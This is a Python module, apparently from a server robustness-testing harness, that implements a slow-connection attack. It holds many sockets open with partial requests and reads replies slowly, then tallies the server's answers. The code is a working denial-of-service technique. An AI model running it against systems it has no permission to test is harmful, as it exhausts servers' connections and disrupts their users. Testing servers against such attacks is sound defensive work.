"""Connections that are held: their requests do not go on, or their answers are read slowly."""

from __future__ import annotations

import random
import re
import socket
from collections.abc import Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from threading import Event
from typing import Final

from ..attacker import THROUGH, Met

__all__ = ["Hold"]

_PAUSE_S: Final = 0.01
_LOOK_S: Final = 1.0
_PATIENCE_S: Final = 2.0
_STATUS: Final = re.compile(rb"HTTP/1\.1 (\d{3}) ")
_SMALL_BUFFER: Final = 4_096


@dataclass(frozen=True, slots=True)
class Hold:
    """Holds up to `most` connections until it is stopped, each with one of these beginnings; where the other side
    closes one, opens another. Reads at most `bytes_per_s` of each."""

    beginnings: Sequence[bytes]
    most: int
    bytes_per_s: int = 65_536
    may_succeed: bool = True

    def attack(self, addresses: Sequence[tuple[str, int]], chance: random.Random, met: Met, stopped: Event) -> None:
        held: list[_Held] = []
        while not stopped.wait(_PAUSE_S):
            if len(held) < self.most:
                opened = self._open(chance.choice(addresses), chance.choice(self.beginnings), met)
                if opened is not None:
                    held.append(opened)
                    continue
            held = [each for each in held if self._is_open(each, met)]
            stopped.wait(_LOOK_S)
        met.answers["held to the end"] += sum(not each.is_answered for each in held)
        for each in held:
            each.connection.close()

    def _open(self, address: tuple[str, int], beginning: bytes, met: Met) -> _Held | None:
        met.requests += 1
        connection = socket.socket()
        connection.settimeout(_PATIENCE_S)
        if self.bytes_per_s < _SMALL_BUFFER:  # before it connects, as the size of the window is agreed on then
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _SMALL_BUFFER)
        try:
            connection.connect(address)
        except OSError:
            connection.close()
            met.answers["not taken"] += 1
            return None
        with suppress(OSError):
            connection.sendall(beginning)
        connection.setblocking(False)  # noqa: FBT003 - as the socket has it
        return _Held(connection)

    def _is_open(self, held: _Held, met: Met) -> bool:
        """Read what was sent, count the answer once, and close what the other side has closed."""
        try:
            received = held.connection.recv(self.bytes_per_s)
        except BlockingIOError:
            return True
        except OSError:
            received = b""
        if not held.is_answered and (found := _STATUS.match(received)) is not None:
            held.is_answered = True
            is_through = found[1].startswith(b"2") and not self.may_succeed
            met.answers[f"{found[1].decode()}{THROUGH if is_through else ''}"] += 1
        if received:
            return True
        if not held.is_answered:
            met.answers["closed by the server"] += 1
        held.connection.close()
        return False


@dataclass(slots=True)
class _Held:
    connection: socket.socket
    is_answered: bool = field(default=False)
